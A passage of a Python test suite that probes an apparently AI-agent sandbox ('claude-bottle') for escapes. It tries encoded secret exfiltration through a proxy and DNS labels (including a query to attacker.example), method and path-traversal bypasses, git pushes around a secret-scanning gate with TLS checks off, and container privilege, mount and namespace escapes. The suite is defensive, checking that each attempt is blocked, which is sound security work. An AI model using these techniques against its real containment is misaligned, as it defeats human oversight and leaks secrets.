    return blocked_post(m, base64.b64encode(SECRET.encode()).decode())


@case(6, ok_host="truncated")
def r6_base64url_nested(m):
    inner = base64.b64encode(SECRET.encode())
    return blocked_post(m, base64.urlsafe_b64encode(b"x=" + inner).decode())


@case(6, ok_host="truncated")
def r6_hex(m):
    return blocked_post(m, SECRET.encode().hex())


@case(6, ok_host="truncated")
def r6_url_encoded_twice(m):
    once = "".join(f"%{b:02X}" for b in SECRET.encode())
    return blocked_post(m, urllib.parse.quote(once), "application/x-www-form-urlencoded")


@case(6, ok_host="truncated")
def r6_reversed(m):
    return blocked_post(m, SECRET[::-1])


@case(6, ok_host="truncated")
def r6_zero_width_split(m):
    return blocked_post(m, "\u200b".join(SECRET), "text/plain; charset=utf-8")


@case(6, ok_host="truncated")
def r6_split_across_chunks(m):
    half = len(SECRET) // 2
    s, st, head = tunnel("allowed.test", 443)
    if s is None:
        return True, f"CONNECT {st}"
    t = tls(s, "allowed.test")
    with t:
        t.sendall(f"POST /{m} HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n"
                  f"Content-Type: text/plain\r\nConnection: close\r\n\r\n".encode())
        for part in ("padding " * 2000 + SECRET[:half], SECRET[half:] + " tail"):
            data = part.encode()
            try:
                t.sendall(f"{len(data):x}\r\n".encode() + data + b"\r\n")
            except OSError as e:
                return True, f"cut: {e}"
            time.sleep(0.3)
        try:
            t.sendall(b"0\r\n\r\n")
        except OSError as e:
            return True, f"cut: {e}"
        resp = read_all(t)
    return refused(resp)


@case(6, ok_host="truncated", secret=FAKE_GH)
def r6_github_pattern(m):
    return blocked_post(m, f"token = '{FAKE_GH}'\n", "text/plain")


@case(6)
def r6_aws_pattern(m):
    return not_200("-H", "x-aws: AKIAZQ7XK2M4P6TRW3EF", f"https://allowed.test/{m}")


@case(6, ok_host="truncated", secret=FAKE_KEY_LINE)
def r6_private_key(m):
    key = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
           "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
           f"{FAKE_KEY_LINE}\n"
           "-----END OPENSSH PRIVATE KEY-----\n")
    return blocked_post(m, key, "text/plain")


def dlp_refusal(head):
    """A refusal by DLP itself: a 502 (say) would mean the proxy tried the
    name, and so looked it up."""
    return block_reason(head) == "dlp"


@case(6)
def r6_host_label_intercepted(m):
    label = SECRET.encode().hex()[:60]
    s, st, head = tunnel(f"{label}.{m}.wild.test", 443)
    if s:
        s.close()
    return dlp_refusal(head), f"CONNECT {st}"


@case(6)
def r6_host_label_passthrough(m):
    label = base64.b32encode(SECRET.encode()).decode().rstrip("=").lower()[:60]
    s, st, head = tunnel(f"{label}.{m}.pass.test", 443)
    if s:
        s.close()
    return dlp_refusal(head), f"CONNECT {st}"


@case(6)
def r6_host_label_plain_http(m):
    label = SECRET.encode().hex()[:60]
    resp, err = proxy_raw(f"GET http://{label}.{m}.wild.test/ HTTP/1.1\r\nHost: {label}.{m}.wild.test\r\n\r\n".encode())
    return dlp_refusal(resp), f"{status(resp)} {err}"


@case(6)
def r6_health_endpoint(m):
    resp, err = proxy_raw(f"GET http://claude-bottle.local/health?{m}={SECRET} HTTP/1.1\r\nHost: claude-bottle.local\r\n\r\n".encode())
    return SECRET.encode() not in resp, f"{status(resp)}"


@case(6, ok_host="allowed.test")
def r6_redirect_to_denied(m):
    to = urllib.parse.quote(f"https://denied.test/{m}", safe="")
    rc, out = curl("-L", "-o", "/dev/null", "-w", "%{http_code} %{url_effective}",
                   f"https://allowed.test/redirect?to={to}")
    return not out.startswith("200"), f"rc {rc} {out}"


# --- row 7: method and path rules ----------------------------------------

@case(7, control=True)
def c7_public_get(m):
    rc, code = curl_code(f"https://ro.test/public/{m}")
    return code == "200", f"code {code}"


@case(7)
def r7_post_to_get_only(m):
    return not_200("-X", "POST", "--data", "x", f"https://ro.test/public/{m}")


@case(7)
def r7_method_in_the_body(m):
    # form.test allows GET and POST. A POST whose body names another
    # method is that method to Rails, Laravel and Symfony: a form field, a
    # form the proxy would see as text/plain were the type not dropped
    # (Connection names it), an escaped JSON key (Laravel), a part of
    # multipart/mixed (Rack). Each must be the proxy's `method` refusal.
    bodies = [
        ("application/x-www-form-urlencoded", f"m={m}&_method=DELETE"),
        ("text/plain\r\nConnection: content-type", f"m={m}&_method=DELETE"),
        ("application/json", '{"m":"%s","\\u005fmethod":"DELETE"}' % m),
        ("multipart/mixed; boundary=b",
         '--b\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--b--\r\n'),
    ]
    reasons = []
    for ct, body in bodies:
        request = (f"POST /{m} HTTP/1.1\r\nHost: form.test\r\nContent-Type: {ct}\r\n"
                   f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}").encode()
        resp, err = https_raw("form.test", request)
        reasons.append(block_reason(resp) or f"{status(resp)} {err}")
    return all(r == "method" for r in reasons), " ".join(reasons)


@case(7)
def r7_plain_http(m):
    # The same rules on the plain-HTTP forward path.
    post, e1 = proxy_raw(f"POST http://ro.test/public/{m}-post HTTP/1.1\r\nHost: ro.test\r\n"
                         f"Content-Length: 1\r\nConnection: close\r\n\r\nx".encode())
    outside, e2 = proxy_raw(f"GET http://ro.test/private/{m} HTTP/1.1\r\nHost: ro.test\r\n"
                            f"Connection: close\r\n\r\n".encode())
    return (block_reason(post) == "method" and block_reason(outside) == "path",
            f"{post[:120]!r} {outside[:120]!r} {e1} {e2}")


@case(7)
def r7_second_request_in_a_tunnel(m):
    # Every request on a kept-alive intercepted tunnel is checked, not only
    # the first (which is allowed, and carries no marker).
    s, st, head = tunnel("ro.test", 443)
    if s is None:
        return False, f"CONNECT {st} {head[:120]!r}"
    t = tls(s, "ro.test")
    with t:
        t.sendall(b"GET /public/esc-keepalive HTTP/1.1\r\nHost: ro.test\r\n\r\n")
        first = read_all(t)
        try:
            t.sendall(f"POST /private/{m} HTTP/1.1\r\nHost: ro.test\r\nContent-Length: 1\r\n"
                      f"Connection: close\r\n\r\nx".encode())
            second = read_all(t)
        except OSError as e:
            second = f"closed: {e}".encode()
    return (status(first) == 200 and block_reason(second) in ("method", "path"),
            f"first {status(first)}, second {second[:160]!r}")


@case(7)
def r7_path_outside(m):
    return not_200(f"https://ro.test/private/{m}")


@case(7)
def r7_dot_dot(m):
    return not_200("--path-as-is", f"https://ro.test/public/../private/{m}")


@case(7)
def r7_percent_dot_dot(m):
    codes = []
    for p in ("%2e%2e", "%2E%2E", ".%2e", "..%2f..%2fprivate", "%2e%2e%2f"):
        rc, code = curl_code("--path-as-is", f"https://ro.test/public/{p}/private/{m}")
        codes.append((p, code))
    return all(c != "200" for _, c in codes), codes


@case(7)
def r7_double_encoded(m):
    return not_200("--path-as-is", f"https://ro.test/public/%252e%252e/private/{m}")


@case(7)
def r7_backslash(m):
    return not_200("--path-as-is", f"https://ro.test/public/..\\private\\{m}")


# --- row 8: git pushes are gated ------------------------------------------

REPO = "/workspace/app"


def git(cmd, env=None):
    return sh(f"git {cmd}", cwd=REPO, env=env)


def commit(msg, files):
    for name, text in files.items():
        with open(os.path.join(REPO, name), "w") as f:
            f.write(text)
    rc, out = git("add -A && git commit -qm " + json.dumps(msg))
    if rc != 0:
        raise RuntimeError(out)


def push_refused(refspec, flags=""):
    rc, out = git(f"push {flags} origin {refspec}")
    return rc != 0, out[-400:]


@case(8, control=True)
def c8_clean_push(m):
    git("checkout -q -B clean origin/main")
    commit(f"clean work {m}", {"clean.txt": "nothing secret\n"})
    rc, out = git(f"push origin HEAD:refs/heads/agent/{m}")
    return rc == 0, out[-300:]


@case(8)
def r8_secret_in_new_branch(m):
    git("checkout -q -B leak1 origin/main")
    commit("add config", {"config.py": f"TOKEN = '{SECRET}'\n"})
    return push_refused(f"HEAD:refs/heads/agent/{m}")


@case(8)
def r8_secret_in_older_commit(m):
    git("checkout -q -B leak2 origin/main")
    commit("add config", {"config.py": f"TOKEN = '{SECRET}'\n"})
    commit("remove config", {"config.py": "TOKEN = None\n"})
    commit("more work", {"more.txt": "more\n"})
    return push_refused(f"HEAD:refs/heads/agent/{m}")


@case(8)
def r8_secret_in_message(m):
    git("checkout -q -B leak3 origin/main")
    commit(f"note to self: {SECRET}", {"n.txt": "n\n"})
    return push_refused(f"HEAD:refs/heads/agent/{m}")


@case(8)
def r8_pattern_key(m):
    git("checkout -q -B leak4 origin/main")
    commit("ci", {"ci.yml": "env:\n  GH: ghp_" + "Zq8" * 12 + "\n"})
    return push_refused(f"HEAD:refs/heads/agent/{m}")


@case(8)
def r8_secret_in_ref_name(m):
    git("checkout -q -B leak6 origin/main")
    commit(f"clean {m}", {"r.txt": "r\n"})
    return push_refused(f"HEAD:refs/heads/agent/{m}-{SECRET}")


@case(8)
def r8_secret_in_author_email(m):
    git("checkout -q -B leak7 origin/main")
    with open(os.path.join(REPO, "e.txt"), "w") as f:
        f.write("e\n")
    rc, out = git(f"add -A && git commit -qm 'work {m}'",
                  env={"GIT_AUTHOR_EMAIL": f"{SECRET}@example.com",
                       "GIT_COMMITTER_NAME": f"x {SECRET}"})
    if rc != 0:
        raise RuntimeError(out)
    return push_refused(f"HEAD:refs/heads/agent/{m}")


@case(8)
def r8_one_clean_ref_one_dirty(m):
    # The whole push is refused: the clean branch does not land either.
    git("checkout -q -B clean2 origin/main")
    commit(f"clean {m}", {"c2.txt": "c\n"})
    git("checkout -q -B leak8 origin/main")
    commit("add config", {"config.py": f"TOKEN = '{SECRET}'\n"})
    return push_refused(f"clean2:refs/heads/agent/{m}-clean leak8:refs/heads/agent/{m}-dirty")


@case(8)
def r8_refused_then_pushed_again(m):
    # Refused once (a branch outside `push`); the gate must not have kept
    # the commit as known, so the second push is scanned as new.
    git("checkout -q -B leak9 origin/main")
    commit(f"add config {m}", {"config.py": f"KEY = '{SECRET}'\n"})
    first, out1 = push_refused(f"HEAD:refs/heads/feature-{m}")
    second, out2 = push_refused(f"HEAD:refs/heads/agent/{m}")
    return first and second and "known-secret" in out2, f"{out1[-150:]} / {out2[-250:]}"


@case(8)
def r8_branch_outside_push(m):
    git("checkout -q -B other origin/main")
    commit("other", {"o.txt": "o\n"})
    return push_refused(f"HEAD:refs/heads/feature-{m}")


@case(8)
def r8_force_push_protected(m):
    git(f"checkout -q --orphan root-{m}")
    commit(f"new root {m}", {"root.txt": "r\n"})
    return push_refused("HEAD:refs/heads/main", "--force")


@case(8)
def r8_delete_protected(m):
    return push_refused(":refs/heads/main")


@case(8)
def r8_push_around_the_gate(m):
    """Without the agent's git config (whose insteadOf rules send the
    upstream's URL to the gate), straight at the upstream, TLS checks off."""
    res = []
    for url in (f"https://git.world.test/git/app.git", f"http://git.world.test/git/app.git"):
        rc, out = git(f"push {url} HEAD:refs/heads/agent/{m}",
                      env={"GIT_SSL_NO_VERIFY": "1", "GIT_CONFIG_GLOBAL": "/dev/null"})
        res.append((url, rc, out[-120:]))
    return all(rc != 0 for _, rc, _ in res), res


@case(8)
def r8_secret_to_the_upstream_url(m):
    """The upstream's own URL leads to the gate too (insteadOf), which
    scans it."""
    git("checkout -q -B leak5 origin/main")
    commit("add key", {"key.txt": SECRET + "\n"})
    rc, out = git(f"push https://git.world.test/git/app.git HEAD:refs/heads/agent/{m}")
    return rc != 0, out[-300:]


@case(8)
def r8_ssh_and_git_protocols(m):
    res = []
    for url in (f"ssh://git@{WORLD}/{m}.git", f"git://{WORLD}/{m}.git", f"ssh://git@git.world.test/{m}.git"):
        rc, out = sh(f"timeout 15 git ls-remote {url}",
                     env={"GIT_SSH_COMMAND": "ssh -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=4"})
        res.append((url, rc))
    return all(rc != 0 for _, rc in res), res


@case(8)
def r8_no_verify_clone_around_the_gate(m):
    rc, out = sh(f"timeout 15 git clone -q https://git.world.test/git/{m}.git /tmp/{m}",
                 env={"GIT_SSL_NO_VERIFY": "1", "GIT_CONFIG_COUNT": "1",
                      "GIT_CONFIG_KEY_0": "http.sslVerify", "GIT_CONFIG_VALUE_0": "false"})
    return rc != 0, out[-200:]


# --- row 10: the container is not a door ---------------------------------

def status_field(name):
    for line in open("/proc/self/status"):
        if line.startswith(name + ":"):
            return line.split(":", 1)[1].strip()


def under_gvisor():
    """gVisor's kernel says so on its first `dmesg` line. Under it, /proc
    and /sys are gVisor's own views: no `CapAmb` or `NoNewPrivs` lines, no
    cgroup files, and user namespaces that live in gVisor's kernel, not the
    host's, so some checks below take other evidence (security.md)."""
    rc, out = sh("dmesg 2>/dev/null | head -3")
    return "gVisor" in out


GVISOR = under_gvisor()


def no_new_privs():
    """PR_GET_NO_NEW_PRIVS asked of the kernel (gVisor's or the host's), the
    status line only when the system call cannot be made from here."""
    try:
        import ctypes
        return str(ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))
    except (OSError, AttributeError, ImportError):
        return status_field("NoNewPrivs")


@case(10)
def r10_not_root(m):
    return os.getuid() != 0 and os.geteuid() != 0, f"uid {os.getuid()} euid {os.geteuid()}"


@case(10)
def r10_no_capabilities(m):
    # gVisor has no ambient set (and no line for it); every other set must
    # be there and empty.
    names = ("CapEff", "CapPrm", "CapInh", "CapBnd") + (() if GVISOR else ("CapAmb",))
    caps = {k: status_field(k) for k in names}
    held = all(v is not None and int(v, 16) == 0 for v in caps.values())
    return held, f"{caps}{' (gVisor)' if GVISOR else ''}"


@case(10)
def r10_no_new_privileges(m):
    nnp = no_new_privs()
    # A setuid binary must not raise privileges.
    rc, out = sh("for b in /usr/bin/su /bin/su /usr/bin/passwd /usr/bin/newgrp; do "
                 "[ -u $b ] && echo setuid $b; done; "
                 "python3 -c 'import os; os.setuid(0)' 2>&1 | tail -1")
    return nnp == "1" and "PermissionError" in out, f"NoNewPrivs {nnp}; {out.strip()[:200]}"


@case(10)
def r10_no_engine_socket(m):
    found = []
    for root in ("/run", "/var/run", "/tmp", "/var/lib", "/home", "/workspace"):
        for dirpath, dirs, names in os.walk(root):
            for n in names:
                if n.endswith(".sock") or n in ("docker", "containerd"):
                    found.append(os.path.join(dirpath, n))
    env = [k for k in os.environ if k.startswith("DOCKER_")]
    ok, why = tcp_try(sidecar_ip(), 2375)
    return not found and not env and not ok, {"sockets": found, "env": env, "2375": why}


def cgroup(name):
    for p in (f"/sys/fs/cgroup/{name}",):
        try:
            return open(p).read().strip()
        except OSError:
            pass
    return None


def meminfo_total():
    for line in open("/proc/meminfo"):
        if line.startswith("MemTotal:"):
            return int(line.split()[1]) * 1024
    return None


@case(10)
def r10_limits(m):
    if GVISOR:
        # No cgroup files inside gVisor: it sizes its memory from the
        # sandbox's cgroup limit (MemTotal is the bottle's `memory`). The
        # pids limit bounds the sandbox's host threads, out of sight from
        # here (a fork past it ends the whole sandbox, tried by hand).
        total = meminfo_total()
        return total is not None and total <= 4 << 30, f"MemTotal {total} (gVisor)"
    # cgroup v2, else v1 (this machine's engine is 20.10 on cgroup v1).
    pids = cgroup("pids.max") or cgroup("pids/pids.max")
    mem = cgroup("memory.max") or cgroup("memory/memory.limit_in_bytes")
    ok = pids not in (None, "max") and mem not in (None, "max") and int(mem) < 1 << 50
    return ok, f"pids.max {pids}, memory limit {mem}"


SYSCALLS = r"""
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
def errno_of(r):
    return 0 if r == 0 else ctypes.get_errno()
out = {
    "mount": errno_of(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
    "unshare-mount": errno_of(libc.unshare(0x00020000)),
    "unshare-user": errno_of(libc.unshare(0x10000000)),
}
print(json.dumps(out))
"""


@case(10)
def r10_no_mount_or_namespaces(m):
    # The system calls themselves, in a child (one that succeeded would
    # change the process): a missing `mount` or `unshare` program is no
    # defence, and each answer is an errno, not an exit code.
    rc, out = sh(f"python3 -c '{SYSCALLS}'")
    errs = json.loads(out.strip().splitlines()[-1])
    rc3, o3 = sh("echo 1 > /proc/sys/kernel/sysrq 2>&1")
    # Under gVisor a user namespace is gVisor's own (its kernel runs in the
    # sandbox, not the host's), so making one reaches nothing of the host.
    held = (errs["mount"] != 0 and errs["unshare-mount"] != 0
            and (errs["unshare-user"] != 0 or GVISOR) and rc3 != 0)
    return held, f"errno {errs} sysctl {rc3}{' (gVisor)' if GVISOR else ''}"


# --- beyond the table ----------------------------------------------------

@case(1)
def x_other_bottle(m):
    res = {}
    for a in CFG["victim_addrs"]:
        res[a] = [tcp_try(a, p, m.encode(), 1) for p in (3128, 8418, 53)]
        udp_send(a, 53, dns_query(f"{m}.attacker.example"))
    return not any(ok for r in res.values() for ok, _ in r), res


# --- row 9: fail closed (its own bottle; the test kills the sidecar) ------

def failclosed():
    side = sidecar_ip()
    port = PROXY_ADDR[1]
    curl("https://allowed.test/esc-armed")
    deadline = time.time() + 90
    while time.time() < deadline and tcp_try(side, port, timeout=1)[0]:
        time.sleep(0.2)
    gone = not tcp_try(side, port, timeout=1)[0]
    emit("c9-sidecar-gone", 9, gone, f"proxy at {side}:{port} stopped answering: {gone}",
         mark("c9-sidecar-gone"), control=False)
    attempts = {
        "r9-curl-allowed": lambda m: (curl_code(f"https://allowed.test/{m}")[1] != "200", "curl"),
        "r9-proxy-by-address": lambda m: (not tcp_try(side, port, timeout=2)[0], "tcp"),
        "r9-world-direct": lambda m: r1_world_tcp(m),
        "r9-host-addresses": lambda m: r1_host_addresses(m),
        "r9-dns": lambda m: (r4_system_resolver(m)[0] and r4_embedded_resolver(m)[0]
                            and r4_world_resolver(m)[0], "resolver, 127.0.0.11, world"),
        "r9-git-gate": lambda m: (sh(f"timeout 10 git ls-remote http://{side}:8418/app.git")[0] != 0, "gate"),
    }
    for name, fn in attempts.items():
        run_case(name, 9, fn)


def run_case(name, row, fn, control=False, ok_host=None, secret=None):
    m = mark(name)
    try:
        held, detail = fn(m)
    except Exception as e:  # a broken attack is never a defence
        print(json.dumps({"case": name, "row": row, "error": f"{type(e).__name__}: {e}",
                          "marker": m, "control": control}), flush=True)
        return
    emit(name, row, held, detail, m, control, ok_host, secret)


if sys.argv[1:] == ["failclosed"]:
    failclosed()
else:
    for fn, row, control, ok_host, secret in RESULTS:
        run_case(fn.__name__.replace("_", "-"), row, fn, control, ok_host, secret)
print(json.dumps({"done": True}), flush=True)
